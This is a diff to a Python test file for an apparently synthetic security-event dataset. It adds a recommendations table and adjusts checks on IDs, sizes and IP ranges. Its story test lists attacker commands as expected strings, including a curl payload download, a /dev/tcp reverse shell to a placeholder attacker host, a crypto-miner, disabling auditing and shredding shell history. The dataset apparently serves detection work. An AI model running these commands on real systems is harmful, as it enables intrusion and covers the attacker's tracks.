@@ -39,6 +39,9 @@ _INVARIANT = re.compile(r"\d\d/\d\d/\d{4} \d\d:\d\d:\d\d")
 _FORMS = ((_ISO, "%Y-%m-%dT%H:%M:%S"), (_INVARIANT, "%m/%d/%Y %H:%M:%S"))
 _NOW_ISO, _NOW_INVARIANT = f"{NOW:%Y-%m-%dT%H:%M:%S}", f"{NOW:%Y/%m/%d %H:%M:%S}"
 
+#: Columns whose text is what a device or the service says of one.
+_SAYING = ("EventDetails", "ExtendedProperties", "Entities", "RecommendationAdditionalData")
+
 Row = dict[str, Any]
 
 
@@ -147,6 +150,7 @@ def test_ids_stay_the_same_from_day_to_day() -> None:
         ("SecurityAlert", "SystemAlertId"),
         (RAW[0], "IoTRawEventId"),
         (RAW[1], "IoTRawEventId"),
+        ("SecurityRecommendation", "RecommendationId"),
     ):
         assert [row[column] for row in tomorrow[table]] == [row[column] for row in tables()[table]]
     succeeded = alerts(STORY_DEVICE)["Brute force attack succeeded"]
@@ -168,9 +172,10 @@ def test_no_row_is_there_twice() -> None:
 
 def test_size() -> None:
     counts = {table: len(rows) for table, rows in tables().items()}
-    assert 20_000 <= sum(counts.values()) <= 30_000
+    assert 20_000 <= sum(counts[table] for table in RAW) <= 30_000
     assert counts["DefenderIoTRawEvent"] >= 200
     assert 30 <= counts["SecurityAlert"] <= 80
+    assert 50 <= counts["SecurityRecommendation"] <= 120
     last_day = [row for row, _ in events() if NOW - moment(row["TimeStamp"]) <= timedelta(days=1)]
     assert len(last_day) >= 5_000
 
@@ -244,7 +249,7 @@ def test_addresses_point_at_nobody() -> None:
     found = set()
     for rows in tables().values():
         for row in rows:
-            text = row.get("EventDetails") or row["ExtendedProperties"] + row["Entities"]
+            text = "".join(row.get(column, "") for column in _SAYING)
             found |= set(re.findall(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])", text))
     assert ATTACKER in found
     assert [text for text in found if not any(ip_address(text) in net for net in nets)] == []
@@ -288,11 +293,10 @@ def test_story_runs_in_order() -> None:
     typed = lines(STORY_DEVICE)
     wanted = (
         "id",
-        "uname -a",
         "cat /etc/passwd",
         "ss -tulpn",
         "find / -perm -4000 -type f",
-        f"curl -fsSL http://{ATTACKER}:8080/k/x.tgz -o /tmp/.x/x.tgz",
+        f"curl -fsSL http://{ATTACKER}:8080/k/dbus-hlp --create-dirs -o /tmp/.x/dbus-hlp",
         "chmod +x /tmp/.x/kworkerds /tmp/.x/dbus-hlp",
         f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1",
         "useradd -m -s /bin/bash",
@@ -301,8 +305,8 @@ def test_story_runs_in_order() -> None:
         "auditctl -e 0",
         "auditctl -e 1",
         f"/tmp/.x/kworkerds -o {ATTACKER}:3333",
-        "rm -f /home/operator/.bash_history",
-        "service auditd stop",
+        "shred -u /home/operator/.bash_history",
+        "/bin/sh /usr/sbin/service auditd stop",
     )
     places = [next(n for n, line in enumerate(typed) if line.startswith(want)) for want in wanted]
     assert places == sorted(places)
